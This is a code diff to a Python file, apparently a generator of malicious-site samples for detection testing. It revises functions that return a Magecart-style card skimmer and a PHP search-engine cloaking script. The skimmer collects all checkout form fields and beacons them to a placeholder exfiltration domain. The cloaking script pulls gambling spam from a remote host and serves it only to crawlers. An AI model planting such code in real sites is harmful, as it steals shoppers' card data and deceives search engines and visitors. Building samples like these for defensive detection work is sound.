@@ -138,20 +138,20 @@ def defaced_page() -> str:
 
 
 def skimmer_js() -> str:
-    """A card-skimmer snippet appended to a checkout script (exfil to a reserved domain)."""
+    """A Magecart-style skimmer appended to a checkout script (exfil to a reserved domain)."""
     return f"""/* checkout.js */
 (function () {{
+  if (!/checkout|payment/i.test(window.location.href)) {{ return; }}
   function grab() {{
     var data = {{}};
-    var fields = document.querySelectorAll(
-      'input[name*="card"], input[name*="cc"], input[name*="cvv"], input[name*="exp"]');
-    for (var i = 0; i < fields.length; i++) {{ data[fields[i].name] = fields[i].value; }}
+    var fields = document.querySelectorAll("input, select");
+    for (var i = 0; i < fields.length; i++) {{ data[fields[i].name || fields[i].id] = fields[i].value; }}
+    var card = {{number: data["cardnumber"], exp: data["cc_exp"], cvv: data["cvv"]}};
+    data.card = card;
     var payload = btoa(JSON.stringify(data));
-    var x = new XMLHttpRequest();
-    x.open('POST', 'https://{SKIMMER_DOMAIN}/collect', true);
-    x.send('d=' + payload);
+    new Image().src = "https://{SKIMMER_DOMAIN}/collect?d=" + payload;
   }}
-  document.addEventListener('submit', grab, true);
+  document.addEventListener("submit", grab, true);
 }})();
 """
 
@@ -198,14 +198,18 @@ def webshell_page() -> str:
 
 
 def cloaking_php() -> str:
-    """Server-side cloaking: crawlers and Google visitors get the spam file."""
-    return """<?php
+    """Server-side cloaking: crawlers and Google visitors get the (cached) remote spam."""
+    return f"""<?php
 $ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');
 $ref = strtolower($_SERVER['HTTP_REFERER'] ?? '');
-if (strpos($ua, 'googlebot') !== false || strpos($ref, 'google.') !== false) {
-    echo file_get_contents(__DIR__ . '/wp-content/languages/id_ID.html');
+if (preg_match('/googlebot|bingbot/', $ua) || strpos($ref, 'google.') !== false) {{
+    $cache = __DIR__ . '/wp-content/languages/id_ID.html';
+    if (!is_file($cache)) {{
+        @file_put_contents($cache, file_get_contents('https://{GAMBLING_DOMAINS[2]}/seo/landing.html'));
+    }}
+    echo file_get_contents($cache);
     exit;
-}
+}}
 define('WP_USE_THEMES', true);
 require __DIR__ . '/wp-blog-header.php';
 """
